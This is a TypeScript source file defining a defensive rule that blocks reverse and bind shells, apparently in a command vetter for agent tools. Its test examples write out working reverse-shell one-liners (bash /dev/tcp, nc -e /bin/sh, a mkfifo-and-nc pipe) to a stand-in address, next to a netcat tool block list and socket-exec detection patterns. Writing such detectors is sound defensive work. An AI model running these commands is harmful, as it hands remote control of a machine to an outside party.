import { isInterpreter, isShell } from '../embedded.ts'
import type { Argument, Invocation, Reading } from '../reading.ts'
import type { CommandRule, Sighting } from '../rule.ts'

const NETCATS = new Set([
  'nc',
  'ncat',
  'netcat',
  'nc.openbsd',
  'nc.traditional',
  'socat',
  'telnet',
  'cryptcat',
  'pwncat',
])

export const reverseShell: CommandRule = {
  name: 'command.reverse-shell',
  class: 'Reverse and bind shells',
  explanation: 'Refuses to connect a shell or an interpreter to the network, in either direction.',
  remedy:
    'Do the work in the workspace; to see whether a local port answers use `nc -z 127.0.0.1 PORT` or `curl localhost:PORT`.',
  refuses: [
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    'nc -e /bin/sh 10.0.0.1 4444',
    'mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f',
  ],
  allows: ['nc -z 127.0.0.1 5432', 'bash -i -c "npm test"'],
  *look(reading) {
    yield* networkFiles(reading)
    for (const invocation of reading.invocations) yield* netcat(invocation, reading)
    for (const { interpreter, code, span } of reading.inline)
      if (connectsShell(code))
        yield {
          verdict: 'deny',
          reason: `The inline ${interpreter} program opens a socket and starts a shell.`,
          span,
        }
  },
}

function* networkFiles(reading: Reading): Iterable<Sighting> {
  const isNetwork = ({ text }: Argument) => /^\/dev\/(tcp|udp)\//.test(text)
  if (reading.redirects.some(({ target }) => isNetwork(target)))
    yield {
      verdict: 'deny',
      reason: 'It redirects to a /dev/tcp or /dev/udp address, which is a network connection.',
    }
  for (const { name, args, span } of reading.invocations)
    if (name !== 'echo' && name !== 'grep' && args.some(isNetwork))
      yield { verdict: 'deny', reason: `It gives ${name} a /dev/tcp or /dev/udp address.`, span }
}

function* netcat({ name, args, upstream, span }: Invocation, reading: Reading): Iterable<Sighting> {
  if (name === 'openssl' && args[0]?.text === 's_client' && pipesWithShell(name, reading))
    yield { verdict: 'deny', reason: 'It connects a shell to openssl s_client.', span }
  if (!NETCATS.has(name)) return
  const executes = args.some(({ text }) =>
    name === 'socat'
      ? /(^|,)(EXEC|SYSTEM|SHELL)[:,]/i.test(text)
      : /^(-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)($|=)/.test(text),
  )
  if (executes)
    yield { verdict: 'deny', reason: `It lets ${name} run a program for whoever is at the other end.`, span }
  else if (upstream.some((left) => isShell(left.name)) || pipesWithShell(name, reading))
    yield { verdict: 'deny', reason: `It connects a shell to ${name}.`, span }
  else if (reading.invocations.some((other) => other.name === 'mkfifo' || other.name === 'mknod'))
    yield {
      verdict: 'deny',
      reason: `It joins a named pipe and ${name}, the usual way to build a reverse shell.`,
      span,
    }
}

function pipesWithShell(name: string, reading: Reading): boolean {
  return reading.invocations.some(
    (other) => isInterpreter(other.name) && other.upstream.some((left) => left.name === name),
  )
}

function connectsShell(code: string): boolean {
  if (/\/inet\/(tcp|udp)\//.test(code)) return true
  const socket =
    /\bsocket\b|Socket|fsockopen|TCPSocket|net\.(connect|createConnection|createServer|Socket)|IO::Socket|require\(['"](node:)?(net|tls)['"]\)/
  const starts =
    /\bexec\w*\s*[("'`]|dup2|pty\.spawn|subprocess|child_process|\/bin\/(ba|da|z|k)?sh|cmd\.exe|\bspawn\b|\bsystem\b|proc_open|popen|shell_exec/
  return socket.test(code) && starts.test(code)
}
